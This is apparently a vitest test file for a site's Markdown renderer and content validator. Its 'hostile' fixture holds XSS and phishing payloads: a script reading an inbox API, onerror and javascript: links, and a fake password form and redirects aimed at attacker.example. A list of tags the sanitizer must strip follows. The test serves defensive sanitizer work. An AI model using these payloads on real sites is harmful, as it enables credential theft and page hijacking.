import { describe, expect, it } from "vitest";
import { rawContentOf, readContentTexts } from "../../server/editor/content-files.ts";
import { markdownRenderer } from "./assemble.ts";
import { parseContent } from "./parse.ts";
import { describeProblem } from "./validate.ts";

const toHtml = markdownRenderer("Comparison table");

/** A post as an attacker (or a paste from another site) could write it: raw HTML of every kind a page must not carry. */
const hostile = [
  '<meta http-equiv="refresh" content="0; url=https://attacker.example/">',
  '<base href="https://attacker.example/">',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  "<style>body { display: none }</style>",
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Your session has expired</div>',
  "<script>fetch('/api/inbox/leads').then((r) => r.text()).then(alert)</script>",
  "",
  'A picture: <img src="x.png" onerror="alert(1)"> and <a href="javascript:alert(1)">a prize</a>.',
  "",
  '[Typed in Markdown](javascript:alert(1)) and <a href="JaVaScRiPt&colon;alert(1)">encoded</a>.',
  "",
  '<iframe src="https://attacker.example/"></iframe>',
  '<form action="https://attacker.example/"><input name="password"><button>Sign in</button></form>',
  '<object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/x.swf">',
  '<svg><a href="javascript:alert(1)"><text>svg</text></a></svg>',
  "",
  '![a picture](data:image/svg+xml;base64,PHN2Zy8+) <a href="vbscript:msgbox(1)">vb</a>',
].join("\n");

/** A post as the site's own are written: headings, lists, links, emphasis, code, a quote, a table, a picture. */
const ordinary = [
  "## Why blocks",
  "",
  "Some **bold**, some _emphasis_, ~~struck~~ and `code`. See [the platform](/platform#suites), [a site](https://example.com/x 'Example'),",
  "[write to us](mailto:hello@example.com), [call](tel:+441234567890) or [jump](#why-blocks).",
  "",
  "1. first",
  "2. second",
  "",
  "- an item",
  "",
  "> A quote.",
  "",
  "```ts",
  "const a = 1 < 2;",
  "```",
  "",
  "| Block | Status |",
  "|:---|---:|",
  "| Ledger | live |",
  "",
  "![A chart of the launch](../images/posts/chart.png)",
  "",
  "---",
].join("\n");

describe("a post's Markdown as HTML", () => {
  it("keeps no element, attribute or address that could act on a visitor's page", () => {
    const html = toHtml(hostile);
    for (const unsafe of [
      "<meta",
      "<base",
      "<link",
      "<style",
      "style=",
      "<script",
      "onerror",
      "javascript:",
      "JaVaScRiPt",
      "vbscript:",
      "data:",
      "<iframe",
      "<form",
      "<input",
      "<button",
      "<object",
      "<embed",
      "<svg",
    ]) {
      expect(html, unsafe).not.toContain(unsafe);
    }
    // The words stay, as plain text.
    expect(html).toContain("Your session has expired");
    expect(html).toContain("a prize</a>");
  });

  it("keeps the HTML of ordinary Markdown: headings, emphasis, links, lists, quotes, code, tables and pictures", () => {
    const html = toHtml(ordinary);
    for (const kept of [
      "<h2>Why blocks</h2>",
      "<strong>bold</strong>",
      "<em>emphasis</em>",
      "<del>struck</del>",
      "<code>code</code>",
      '<a href="/platform#suites">the platform</a>',
      '<a href="https://example.com/x" title="Example">a site</a>',
      '<a href="mailto:hello@example.com">write to us</a>',
      '<a href="tel:+441234567890">call</a>',
      '<a href="#why-blocks">jump</a>',
      "<ol>\n<li>first</li>",
      "<ul>\n<li>an item</li>",
      "<blockquote>\n<p>A quote.</p>",
      '<pre><code class="language-ts">const a = 1 &lt; 2;',
      '<div data-table-scroll role="region" aria-label="Comparison table" tabindex="0"><table>',
      '<th align="left">Block</th>',
      '<td align="right">live</td>',
      '<img src="../images/posts/chart.png" alt="A chart of the launch"',
      "<hr",
    ]) {
      expect(html, kept).toContain(kept);
    }
  });
});

describe("a solution's name, said once", () => {
  it("is the heading of its home card and its suite in the diagram, so renaming the solution renames them", async () => {
    const texts = await readContentTexts("tests/fixtures/content");
    const file = "solutions/family-banking.yaml";
    texts.set(file, (texts.get(file) ?? "").replace(/^name: .*$/m, "name: Household Banking"));
    const { content, problems } = parseContent(rawContentOf(texts));
    expect(problems).toEqual([]);
    expect(content.homeSuiteCards.find((card) => card.slug === "family-banking")?.name).toBe("Household Banking");
    expect(content.diagramSuites.find((suite) => suite.id === "family-banking")?.name).toBe("Household Banking");
  });

  it("refuses a diagram suite that names no solution, or one named twice", async () => {
    const texts = await readContentTexts("tests/fixtures/content");
    const file = "platform-overview.yaml";
    texts.set(
      file,
      (texts.get(file) ?? "")
        .replace("solution: loyalty-rewards-3", "solution: family-banking")
        .replace("solution: dynamic-banking", "solution: gone"),
    );
    expect(parseContent(rawContentOf(texts)).problems.map(describeProblem)).toEqual([
      'Platform overview → Diagram suites → gone → Solution: "gone" is not one of the solutions. Pick a solution that exists, or add it first.',
      'Platform overview → Diagram suites → Family Banking → Solution: "family-banking" is already used by Platform overview → Diagram suites → Family Banking. Choose another.',
    ]);
  });
});
